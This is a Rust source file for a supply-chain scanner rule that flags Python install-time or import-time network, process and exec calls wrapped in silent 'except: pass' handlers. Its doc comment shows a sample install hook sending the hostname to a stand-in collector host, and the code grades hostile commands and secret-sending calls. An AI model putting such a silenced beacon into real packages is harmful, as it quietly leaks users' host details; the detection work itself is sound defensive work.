use crate::finding::{Finding, Severity};
use crate::python::{Call, FileRole, names, taint};
use crate::rules::helpers::commands::{is_build_tool, is_hostile_command, network_tool};
use crate::rules::helpers::network::is_constructor;
use crate::rules::helpers::taint_words::describe_taint;
use crate::rules::{PackageFacts, Rule, RuleMeta, code_finding, declare_rule, shell_text};

declare_rule! {
    /// Network, process or code-execution calls that run on their own and
    /// whose every error is swallowed (`try: … except: pass`).
    ///
    /// ## What it finds
    /// Calls that open a connection, start a process (other than a build
    /// tool) or execute code, made at install time, at start-up or on
    /// import, inside a `try` whose handlers catch everything (bare
    /// `except:`, `Exception`, `BaseException`) and do nothing (`pass`,
    /// `...`, `continue`). Calls in functions a user calls are not
    /// reported: wrapping optional telemetry or a version check this way
    /// is ordinary.
    ///
    /// ## Why it matters
    /// On its own this is a habit, not a threat, and the rule is a
    /// modifier: it adds a little weight to what other rules find. Install
    /// hooks and import-time beacons are wrapped this way so that a
    /// blocked connection or a missing tool never shows an error that
    /// would make someone look: the silence is part of the technique. Low
    /// for a silenced connection, process or exec on its own; medium when
    /// the silenced call sends host details, the whole environment or
    /// credentials, runs decoded or downloaded code, or runs a command
    /// that fetches, decodes or contacts the network.
    ///
    /// ## Example
    /// ```python
    /// class Install(install):
    ///     def run(self):
    ///         try:
    ///             requests.get("https://collector.example/", params={"h": socket.gethostname()})
    ///         except Exception:
    ///             pass
    /// ```
    ///
    /// ## References
    /// MITRE ATT&CK T1562 (Impair Defenses), T1070 (Indicator Removal).
    pub struct SilencedErrors {
        id: "AY407",
        slug: "silenced-errors",
        category: DefenseEvasion,
        severity: Medium,
    }
}

impl Rule for SilencedErrors {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, facts: &PackageFacts<'_>, out: &mut Vec<Finding>) {
        for file in facts.python {
            if file.role == Some(FileRole::Script) {
                continue;
            }
            let mut lines = std::collections::BTreeSet::new();
            for call in file
                .calls
                .iter()
                .filter(|c| c.silenced && c.context.is_automatic())
            {
                let Some((what, severity)) = grade(call) else {
                    continue;
                };
                if !lines.insert(call.line) {
                    continue;
                }
                let mut f = code_finding(
                    &Self::META,
                    file,
                    call,
                    format!(
                        "`{}` {what} {} with every error silenced (`except: pass`)",
                        call.name,
                        call.context.describe()
                    ),
                );
                f.severity = severity;
                out.push(f);
            }
        }
    }
}

/// What a silenced call does and how much its silence weighs.
fn grade(call: &Call) -> Option<(String, Severity)> {
    let name = &call.name;
    let carried = crate::rules::sent_taint(call);
    if names::is_network(name) && !is_constructor(name) {
        // One environment variable is often configuration (an endpoint, a
        // proxy); host details, the whole environment and secrets are not.
        let sends = carried & (taint::HOST_INFO | taint::ENV_ALL | taint::SECRET | taint::METADATA);
        return Some(if sends != 0 {
            (format!("sends {}", describe_taint(sends)), Severity::Medium)
        } else {
            ("opens a network connection".to_owned(), Severity::Low)
        });
    }
    if names::is_process(name) {
        let command = shell_text(call);
        return match command.as_deref() {
            Some(cmd) if is_hostile_command(cmd) || network_tool(cmd).is_some() => Some((
                "runs a command that fetches, decodes or contacts the network".to_owned(),
                Severity::Medium,
            )),
            Some(cmd) if is_build_tool(cmd) => None,
            _ => Some(("runs a process".to_owned(), Severity::Low)),
        };
    }
    if names::is_code_exec(name) {
        return Some(if carried & (taint::DECODED | taint::NETWORK) != 0 {
            (
                "runs decoded or downloaded code".to_owned(),
                Severity::Medium,
            )
        } else {
            ("executes code".to_owned(), Severity::Low)
        });
    }
    None
}
